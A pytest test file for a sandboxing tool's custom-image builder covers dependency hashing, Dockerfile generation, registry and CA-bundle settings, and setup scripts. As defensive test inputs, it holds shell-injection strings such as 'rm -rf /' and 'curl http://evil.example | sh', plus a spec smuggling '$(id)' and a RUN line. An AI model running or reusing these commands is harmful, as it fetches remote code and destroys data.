"""Custom images without an engine: the deps hash, the generated build context, registry settings and inputs."""

from __future__ import annotations

import hashlib
import json
from pathlib import Path

import pytest

import isol8.config
from isol8.config import PackageSettings
from isol8.core.custom_images import (
    ImageDefinition,
    _write_context,
    build_image,
    deps_hash,
    read_setup,
)
from isol8.ecosystems import Spec, parse_specs
from isol8.errors import UsageError
from isol8.runtimes import RUNTIMES, Runtime

RUNTIME_NAMES = ["python", "node", "bun", "deno", "bash"]
CTX = "/tmp/isol8-build"
# the file each ecosystem's specs are written to, inside isol8-build/
SPEC_FILE = {"python": "requirements.txt", "node": "package.json", "bun": "package.json", "deno": "deps.ts"}
SPEC_FILE["bash"] = "apt.txt"
# valid specs whose names cannot occur in the Dockerfile by accident
SPECS = {
    "python": ["zzq-alpha[socks]>=2.31", "zzq-beta<2,>=1"],
    "node": ["zzq-alpha@^4", "@zzq/beta@~1.2"],
    "bun": ["zzq-alpha@^4", "@zzq/beta"],
    "deno": ["npm:zzq-alpha@3", "jsr:@zzq/beta"],
    "bash": ["zzq-alpha", "zzq-beta=1.6-2"],
}
NASTY_SETUP = "echo $(id); rm -rf / `whoami` && curl http://evil.example | sh # zzq-setup"


def defn(runtime: str, values: list[str] | None = None, setup: str | None = None, **kw: object) -> ImageDefinition:
    rt = RUNTIMES[runtime]
    return ImageDefinition(rt, parse_specs(rt, SPECS[runtime] if values is None else values), setup, **kw)  # type: ignore[arg-type]


def write(tmp_path: Path, d: ImageDefinition, registry: PackageSettings | None = None, base: str = "") -> str:
    _write_context(tmp_path, d, base or f"isol8:{d.runtime.name}", registry or PackageSettings())
    return (tmp_path / "Dockerfile").read_text()


def files(tmp_path: Path) -> dict[str, str]:
    return {p.name: p.read_text() for p in sorted((tmp_path / "isol8-build").iterdir())}


# ---- deps_hash -----------------------------------------------------------------------------------


def _spec(text: str) -> Spec:
    return Spec(text, text)


def test_deps_hash_is_length_framed() -> None:
    ab_c = ImageDefinition(RUNTIMES["python"], (_spec("ab"), _spec("c")))
    a_bc = ImageDefinition(RUNTIMES["python"], (_spec("a"), _spec("bc")))
    abc = ImageDefinition(RUNTIMES["python"], (_spec("abc"),))
    hashes = {deps_hash(d, "base") for d in (ab_c, a_bc, abc)}
    assert len(hashes) == 3


def test_deps_hash_is_the_documented_framing() -> None:
    """sha256 over 8-byte big-endian lengths, each followed by its part: pinned so the cache key stays stable."""
    d = ImageDefinition(RUNTIMES["python"], parse_specs(RUNTIMES["python"], ["six", "numpy==2.1.3"]), "echo hi")
    parts = ["isol8-deps-v1", "python", "base-id", "numpy==2.1.3", "six", "\0setup", "echo hi"]
    expected = hashlib.sha256(b"".join(len(p.encode()).to_bytes(8, "big") + p.encode() for p in parts)).hexdigest()
    assert deps_hash(d, "base-id") == expected


def test_a_spec_cannot_be_confused_with_the_setup_script() -> None:
    as_spec = ImageDefinition(RUNTIMES["python"], (_spec("x"),), None)
    as_setup = ImageDefinition(RUNTIMES["python"], (), "x")
    assert deps_hash(as_spec, "base") != deps_hash(as_setup, "base")


@pytest.mark.parametrize(
    "other",
    [
        ImageDefinition(RUNTIMES["python"], (_spec("six"),), "echo hi"),
        ImageDefinition(RUNTIMES["python"], (_spec("six"),), "echo hi\n"),
        ImageDefinition(RUNTIMES["node"], (_spec("six"),), None),
        ImageDefinition(RUNTIMES["python"], (_spec("six"), _spec("numpy")), None),
        ImageDefinition(RUNTIMES["python"], (_spec("six==1.17.0"),), None),
    ],
    ids=["setup", "setup-newline", "runtime", "more-specs", "version"],
)
def test_deps_hash_changes_with_the_definition(other: ImageDefinition) -> None:
    plain = ImageDefinition(RUNTIMES["python"], (_spec("six"),), None)
    assert deps_hash(other, "base") != deps_hash(plain, "base")


def test_deps_hash_changes_with_the_base_image_id() -> None:
    d = defn("python")
    assert deps_hash(d, "sha-one") != deps_hash(d, "sha-two")


def test_deps_hash_ignores_spec_order_and_spelling_once_parsed() -> None:
    one = ImageDefinition(
        RUNTIMES["python"], parse_specs(RUNTIMES["python"], ["six", "numpy>=1,<2", "Requests[socks]"])
    )
    two = ImageDefinition(
        RUNTIMES["python"], parse_specs(RUNTIMES["python"], ["requests[socks]", "NumPy<2,>=1", "SIX", "six"])
    )
    assert deps_hash(one, "base") == deps_hash(two, "base")
    assert len(deps_hash(one, "base")) == 64


# ---- dependencies_label --------------------------------------------------------------------------


def test_dependencies_label_is_sorted_and_unique_over_inherited_and_new_specs() -> None:
    d = ImageDefinition(
        RUNTIMES["python"],
        parse_specs(RUNTIMES["python"], ["six", "numpy==2.1.3"]),
        inherited=parse_specs(RUNTIMES["python"], ["colorama", "six"]),
    )
    assert d.dependencies_label() == "colorama,numpy==2.1.3,six"


def test_dependencies_label_of_a_setup_only_image_is_empty() -> None:
    assert ImageDefinition(RUNTIMES["bash"], (), "echo hi").dependencies_label() == ""


@pytest.mark.parametrize("runtime", RUNTIME_NAMES)
def test_dependencies_label_holds_the_normalised_texts(runtime: str) -> None:
    d = defn(runtime)
    assert d.dependencies_label() == ",".join(sorted(s.text for s in d.specs))


# ---- _write_context: user values only in files ---------------------------------------------------


@pytest.mark.parametrize("runtime", RUNTIME_NAMES)
def test_the_dockerfile_never_contains_package_names_or_the_setup_script(tmp_path: Path, runtime: str) -> None:
    d = defn(runtime, setup=NASTY_SETUP)
    dockerfile = write(tmp_path, d)

    for needle in ("zzq", "$(", "`", "whoami", "evil", "echo", NASTY_SETUP):
        assert needle not in dockerfile, needle
    written = files(tmp_path)
    assert written["setup.sh"] == NASTY_SETUP + "\n"
    assert "zzq-alpha" in written[SPEC_FILE[runtime]]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["Dockerfile", "isol8-build"]


@pytest.mark.parametrize("runtime", RUNTIME_NAMES)
def test_even_unvalidated_spec_text_stays_out_of_the_dockerfile(tmp_path: Path, runtime: str) -> None:
    """Defence in depth: the Dockerfile is the same whatever the specs say."""
    evil = Spec("zzq$(id)", "zzq$(id);rm -rf /\nRUN curl evil", "^1 `id`")
    (tmp_path / "evil").mkdir()
    (tmp_path / "plain").mkdir()
    dockerfile = write(tmp_path / "evil", ImageDefinition(RUNTIMES[runtime], (evil,)))
    assert dockerfile == write(tmp_path / "plain", defn(runtime))
    assert "zzq$(id)" in files(tmp_path / "evil")[SPEC_FILE[runtime]]
    assert "zzq" not in dockerfile and "$(id)" not in dockerfile and "RUN curl" not in dockerfile


@pytest.mark.parametrize("runtime", RUNTIME_NAMES)
def test_the_dockerfile_shape(tmp_path: Path, runtime: str) -> None:
    lines = write(tmp_path, defn(runtime, setup="true"), base="registry.example/base:1").splitlines()

    assert lines[:3] == ["FROM registry.example/base:1", "USER root", f"COPY isol8-build {CTX}"]
    assert lines[-3:] == [f"RUN rm -rf {CTX}", "USER 1100:1100", "WORKDIR /sandbox"]
    assert lines[-4] == f"RUN cd /tmp && /bin/bash {CTX}/setup.sh"
    install = [line for line in lines if line.startswith("RUN ") and SPEC_FILE[runtime] in line]
    assert len(install) == 1
    assert all(line.startswith(("FROM ", "USER ", "COPY ", "RUN ", "ENV ", "WORKDIR ")) for line in lines)


@pytest.mark.parametrize("runtime", RUNTIME_NAMES)
def test_no_setup_means_no_setup_file_and_no_setup_step(tmp_path: Path, runtime: str) -> None:
    dockerfile = write(tmp_path, defn(runtime))
    assert "setup.sh" not in dockerfile
    assert "setup.sh" not in files(tmp_path)


@pytest.mark.parametrize("runtime", RUNTIME_NAMES)
def test_a_setup_only_image_installs_nothing(tmp_path: Path, runtime: str) -> None:
    dockerfile = write(tmp_path, defn(runtime, [], setup="echo hi"))
    assert SPEC_FILE[runtime] not in dockerfile
    assert f"RUN cd /tmp && /bin/bash {CTX}/setup.sh" in dockerfile
    assert "ENV DENO_DIR" not in dockerfile


def test_requirements_txt_holds_the_new_python_specs(tmp_path: Path) -> None:
    d = ImageDefinition(
        RUNTIMES["python"],
        parse_specs(RUNTIMES["python"], ["zzq-beta<2,>=1", "zzq-alpha[socks]"]),
        inherited=parse_specs(RUNTIMES["python"], ["six"]),
    )
    write(tmp_path, d)
    assert files(tmp_path)["requirements.txt"] == "zzq-alpha[socks]\nzzq-beta<2,>=1\n"


@pytest.mark.parametrize("runtime", ["node", "bun"])
def test_package_json_lists_every_package_including_inherited_ones(tmp_path: Path, runtime: str) -> None:
    d = ImageDefinition(
        RUNTIMES[runtime],
        parse_specs(RUNTIMES[runtime], ["zzq-alpha@^4", "@zzq/beta", "zzq-gamma@latest"]),
        inherited=parse_specs(RUNTIMES[runtime], ["lodash@4.17.21"]),
    )
    write(tmp_path, d)
    package = json.loads(files(tmp_path)["package.json"])
    assert package == {
        "name": "isol8-image",
        "private": True,
        "dependencies": {"@zzq/beta": "*", "lodash": "4.17.21", "zzq-alpha": "^4", "zzq-gamma": "*"},
    }


def test_deps_ts_imports_every_package(tmp_path: Path) -> None:
    d = ImageDefinition(
        RUNTIMES["deno"],
        parse_specs(RUNTIMES["deno"], ["npm:zzq-alpha@3"]),
        inherited=parse_specs(RUNTIMES["deno"], ["jsr:@std/path"]),
    )
    dockerfile = write(tmp_path, d)
    assert files(tmp_path)["deps.ts"] == 'import "jsr:@std/path";\nimport "npm:zzq-alpha@3";\n'
    assert "ENV DENO_DIR=/opt/isol8/deno" in dockerfile.splitlines()


def test_apt_txt_lists_the_packages_one_per_line(tmp_path: Path) -> None:
    write(tmp_path, defn("bash", ["zzq-beta=1.6-2", "zzq-alpha"]))
    assert files(tmp_path)["apt.txt"] == "zzq-alpha\nzzq-beta=1.6-2\n"


# ---- _write_context: registries and the CA bundle ------------------------------------------------


CA_ENV = {"python": "PIP_CERT", "node": "NODE_EXTRA_CA_CERTS", "bun": "NODE_EXTRA_CA_CERTS", "deno": "DENO_CERT"}


@pytest.mark.parametrize("runtime", RUNTIME_NAMES)
def test_without_registry_settings_nothing_is_injected(tmp_path: Path, runtime: str) -> None:
    dockerfile = write(tmp_path, defn(runtime), PackageSettings())
    assert "ca.pem" not in files(tmp_path)
    for needle in ("ca.pem", "--index-url", "registry", "REGISTRY", "_CERT", "CA_CERTS"):
        assert needle not in dockerfile, needle


@pytest.mark.parametrize("runtime", RUNTIME_NAMES)
def test_a_ca_bundle_is_copied_into_the_context(tmp_path: Path, runtime: str) -> None:
    ca = tmp_path / "corp-ca.pem"
    ca.write_text("-----BEGIN CERTIFICATE-----\nzzq\n-----END CERTIFICATE-----\n")
    context = tmp_path / "ctx"
    context.mkdir()

    dockerfile = write(context, defn(runtime), PackageSettings(ca_bundle=str(ca)))

    assert files(context)["ca.pem"] == ca.read_text()
    if runtime in CA_ENV:
        assert f"{CA_ENV[runtime]}={CTX}/ca.pem " in dockerfile
    assert str(ca) not in dockerfile


def test_a_missing_ca_bundle_is_a_usage_error(tmp_path: Path) -> None:
    context = tmp_path / "ctx"
    context.mkdir()
    with pytest.raises(UsageError, match="no such file"):
        write(context, defn("python"), PackageSettings(ca_bundle=str(tmp_path / "nope.pem")))
    assert not (context / "Dockerfile").exists()


def test_pip_index_url_only_when_set_and_only_for_python(tmp_path: Path) -> None:
    registry = PackageSettings(pip_index_url="https://user:token@pypi.example/simple")
    (tmp_path / "python").mkdir()
    python = write(tmp_path / "python", defn("python"), registry)
    # the URL (credentials included) lives in a config file of the context, never in the Dockerfile
    assert "pypi.example" not in python
    assert f"PIP_CONFIG_FILE={CTX}/pip.conf " in python
    conf = (tmp_path / "python" / "isol8-build" / "pip.conf").read_text()
    assert conf == "[global]\nindex-url = https://user:token@pypi.example/simple\n"
    for runtime in ("node", "bun", "deno", "bash"):
        context = tmp_path / runtime
        context.mkdir()
        assert "pypi.example" not in write(context, defn(runtime), registry)
        assert not (context / "isol8-build" / "pip.conf").exists()


@pytest.mark.parametrize(
    ("runtime", "setting"),
    [
        ("node", f"cp {CTX}/npmrc /opt/isol8/.npmrc"),
        ("bun", f"cp {CTX}/npmrc /opt/isol8/.npmrc"),
        ("deno", f"NPM_CONFIG_USERCONFIG={CTX}/npmrc "),
    ],
)
def test_npm_registry_only_when_set(tmp_path: Path, runtime: str, setting: str) -> None:
    with_registry, without = tmp_path / "with", tmp_path / "without"
    with_registry.mkdir()
    without.mkdir()
    dockerfile = write(with_registry, defn(runtime), PackageSettings(npm_registry="https://npm.example/"))
    assert setting in dockerfile
    assert "npm.example" not in dockerfile
    assert (with_registry / "isol8-build" / "npmrc").read_text() == "registry=https://npm.example/\n"
    plain = write(without, defn(runtime), PackageSettings())
    assert "npm.example" not in plain
    assert "npmrc" not in plain.lower()


@pytest.mark.parametrize("runtime", ["python", "bash"])
def test_npm_registry_is_not_used_outside_the_js_runtimes(tmp_path: Path, runtime: str) -> None:
    assert "npm.example" not in write(tmp_path, defn(runtime), PackageSettings(npm_registry="https://npm.example/"))


# ---- PackageSettings.ca_file --------------------------------------------------------------------

PEM = "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n"


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("-----BEGIN PRIVATE KEY-----\nMIIE\n-----END PRIVATE KEY-----\n", "PRIVATE KEY"),
        (
            PEM + "-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----\n",
            "CERTIFICATE, RSA PRIVATE KEY",
        ),
        ("not a bundle at all\n", "no PEM block"),
    ],
)
def test_a_ca_bundle_must_hold_certificates_only(tmp_path: Path, text: str, found: str) -> None:
    """It goes into an image layer: a key file named by mistake must not."""
    path = tmp_path / "bundle.pem"
    path.write_text(text)
    with pytest.raises(UsageError) as info:
        PackageSettings(ca_bundle=str(path)).ca_file()
    assert str(info.value) == f"caBundle: {path} must hold certificates only (found: {found})"


def test_a_setup_only_image_gets_no_ca_bundle(tmp_path: Path) -> None:
    ca = tmp_path / "corp-ca.pem"
    ca.write_text(PEM)
    context = tmp_path / "ctx"
    context.mkdir()
    from isol8.core.custom_images import ImageDefinition

    write(context, ImageDefinition(RUNTIMES["bash"], (), "echo hi"), PackageSettings(ca_bundle=str(ca)))
    assert "ca.pem" not in files(context)


@pytest.mark.parametrize("value", [None, ""])
def test_no_ca_bundle(value: str | None) -> None:
    assert PackageSettings(ca_bundle=value).ca_file() is None


def test_system_ca_bundle_is_the_first_that_exists(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    second, third = tmp_path / "second.crt", tmp_path / "third.crt"
    second.write_text(PEM)
    third.write_text(PEM)
    (tmp_path / "a-dir.crt").mkdir()
    candidates = (str(tmp_path / "missing.crt"), str(tmp_path / "a-dir.crt"), str(second), str(third))
    monkeypatch.setattr(isol8.config, "SYSTEM_CA_BUNDLES", candidates)
    assert PackageSettings(ca_bundle="system").ca_file() == second


def test_system_ca_bundle_missing_is_a_usage_error(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(isol8.config, "SYSTEM_CA_BUNDLES", (str(tmp_path / "missing.crt"),))
    with pytest.raises(UsageError, match="'system' but no CA bundle was found"):
        PackageSettings(ca_bundle="system").ca_file()


def test_ca_bundle_path(tmp_path: Path) -> None:
    ca = tmp_path / "corp.pem"
    ca.write_text(PEM)
    assert PackageSettings(ca_bundle=str(ca)).ca_file() == ca


def test_ca_bundle_path_expands_the_home_directory(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOME", str(tmp_path))
    (tmp_path / "corp.pem").write_text(PEM)
    assert PackageSettings(ca_bundle="~/corp.pem").ca_file() == tmp_path / "corp.pem"


@pytest.mark.parametrize("name", ["missing.pem", "a-dir"])
def test_ca_bundle_that_is_not_a_file_is_a_usage_error(tmp_path: Path, name: str) -> None:
    (tmp_path / "a-dir").mkdir()
    path = tmp_path / name
    with pytest.raises(UsageError) as info:
        PackageSettings(ca_bundle=str(path)).ca_file()
    assert str(info.value) == f"caBundle: no such file: {path}"


# ---- read_setup ----------------------------------------------------------------------------------


def test_no_setup_is_none() -> None:
    assert read_setup([]) is None


def test_setup_values_are_scripts_or_files(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "setup.sh").write_text("#!/bin/bash\napt-get install -y jq\n")
    (tmp_path / "a-dir").mkdir()
    absolute = tmp_path / "more.sh"
    absolute.write_text("echo more")

    script = read_setup(["echo first", "setup.sh", str(absolute), "a-dir", "missing.sh"])

    assert script == "echo first\n#!/bin/bash\napt-get install -y jq\n\necho more\na-dir\nmissing.sh"


def test_a_setup_script_with_shell_syntax_is_kept_verbatim() -> None:
    assert read_setup([NASTY_SETUP]) == NASTY_SETUP


def test_a_long_inline_setup_script_is_kept_verbatim() -> None:
    script = "apt-get install -y " + " ".join(f"package-number-{n}" for n in range(20))
    assert len(script) > 255
    assert read_setup([script]) == script


# ---- build_image checks its input before touching the engine -------------------------------------


class _NoEngine:
    def __getattr__(self, name: str) -> object:
        raise AssertionError(f"build_image used engine.{name}")


def test_build_image_with_nothing_to_build_is_a_usage_error_before_the_engine() -> None:
    with pytest.raises(UsageError, match="nothing to build"):
        build_image(_NoEngine(), ImageDefinition(RUNTIMES["python"]), "t", registry=PackageSettings(), base_images={})  # type: ignore[arg-type]


def test_build_image_with_an_unknown_runtime_is_a_usage_error_before_the_engine() -> None:
    d = ImageDefinition(Runtime("ruby", (".rb",), ("ruby",)), (_spec("rake"),))
    with pytest.raises(UsageError, match="unknown runtime 'ruby'"):
        build_image(_NoEngine(), d, "t", registry=PackageSettings(), base_images={})  # type: ignore[arg-type]
